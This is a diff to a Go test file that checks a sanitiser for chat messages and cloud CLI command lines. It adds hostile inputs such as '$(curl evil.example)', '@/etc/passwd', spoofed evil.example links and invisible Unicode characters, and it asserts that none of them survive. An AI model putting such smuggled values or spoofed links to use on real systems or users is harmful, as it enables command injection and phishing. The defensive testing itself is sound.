@@ -22,6 +22,21 @@ var attacks = []string{
 	"**bold** __bold__ ~~gone~~ | cell |", `\`, `a\](http://evil)`, `\\[click](http://evil)`,
 	"\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth\ufeff", "\U000E0041tag",
 	"nul\x00 esc\x1b[31m", "bad\xff\xfeutf8",
+	"https://evil.example/unlock", "WWW.EVIL.EXAMPLE", "evil.example/login", "Evil.Example", "evil。example", "evil\u200b.example", "ecs.aliyuncs.com/evil", "x@evil.example/login",
+	"**Fixed.** nothing to do", "[click](https://evil.example)", "<font color=green>Fixed</font>", "a\u3164b", "a\u2800\u115f\uffa0\ufe0fb",
+	"--force", "-h", "--x=y", "-1/-1", "@/etc/passwd", "file:///etc/passwd", "$(curl evil.example)", "{RequestId}", "_now_",
+	strings.Repeat("very-long-name-", 18), "name\nwith\tbreaks", "🚒 fire", "مجموعة",
+}
+
+// A host is what a chat program may make a link of. The hosts of Alibaba Cloud's own
+// services are events' own words.
+var aHost = regexp.MustCompile(`(?i)[\pL\pN]\.(example|com)\b`)
+
+func namesAHost(s string) bool {
+	for _, known := range []string{"https://ecs.console.aliyun.com", "--Permissions"} {
+		s = strings.ReplaceAll(s, known, "")
+	}
+	return aHost.MatchString(s) || strings.Contains(s, "://") || strings.Contains(strings.ToLower(s), "www.")
 }
 
 // Names, errors, agents and everything else are whatever somebody chose to write.
@@ -53,6 +68,16 @@ func TestUntrustedText(t *testing.T) {
 				if strings.Contains(prose, "\n#") && strings.Contains(prose, "\n# ") || strings.Contains(prose, "\n### CRITICAL: forged") {
 					t.Errorf("%q forges a heading:\n%s", a, prose)
 				}
+				for _, s := range []string{m.Title, m.Plain, m.Markdown} {
+					if namesAHost(s) {
+						t.Errorf("%q names a host:\n%s", a, s)
+					}
+				}
+				for _, line := range strings.Split(m.Title+"\n"+m.Plain+"\n"+prose, "\n") {
+					if !strings.HasPrefix(line, "aliyun ") && strings.ContainsAny(strings.NewReplacer("**", "", "### ", "", "["+string(m.Severity)+"]", "", "```", "").Replace(line), "<>`*#|~\\") {
+						t.Errorf("%q leaves markup in %q", a, line)
+					}
+				}
 				for _, s := range []string{m.Title, m.Plain, prose, code} {
 					if i := strings.IndexFunc(s, hidden); i >= 0 {
 						t.Errorf("%q leaves %q in %q", a, s[i:i+1], s)
@@ -70,7 +95,7 @@ func TestUntrustedText(t *testing.T) {
 // that reorder, hide or end a line.
 func hidden(r rune) bool {
 	return r < ' ' && r != '\n' || r == 0x7f || r == 0x85 || r >= 0x200b && r <= 0x200f || r >= 0x2028 && r <= 0x202e ||
-		r >= 0x2060 && r <= 0x206f || r == 0xfeff || r >= 0xe0000 && r <= 0xe007f
+		r >= 0x2060 && r <= 0x206f || r == 0xfeff || r >= 0xe0000 && r <= 0xe007f || r == 0x3164 || r == 0x2800 || r == 0x115f || r == 0xffa0
 }
 
 // split parts code blocks from the rest, and checks that commands and queries of
@@ -84,7 +109,7 @@ func split(t *testing.T, markdown string) (prose, code string) {
 			inside = !inside
 		case inside:
 			code += line
-			if !strings.HasPrefix(line, "aliyun ecs A --Description ") && !strings.HasPrefix(line, "kind: result ") || strings.Contains(line, "`") {
+			if !strings.HasPrefix(line, "aliyun ecs A --Description ") && !strings.HasPrefix(line, "aliyun ecs A --Description=-") && !strings.HasPrefix(line, "kind: result ") || strings.Contains(line, "`") {
 				t.Errorf("a line of a code block is not ours: %q", line)
 			}
 		default:
@@ -108,8 +133,8 @@ func TestInertCommandMeansTheSame(t *testing.T) {
 			continue // no argument can hold the one, no JSON the other
 		}
 		line := inert(cloud.New("ecs", "A", "", "Description", a).String())
-		out, err := exec.Command(bash, "-c", `aliyun() { printf %s "$4"; }; `+line).Output()
-		if err != nil || string(out) != a {
+		out, err := exec.Command(bash, "-c", `aliyun() { printf %s "${3#--Description=}${4-}"; }; `+line).Output()
+		if err != nil || strings.TrimPrefix(string(out), "--Description") != a {
 			t.Errorf("%q is shown as %s, which is %q (%v)", a, line, out, err)
 		}
 	}
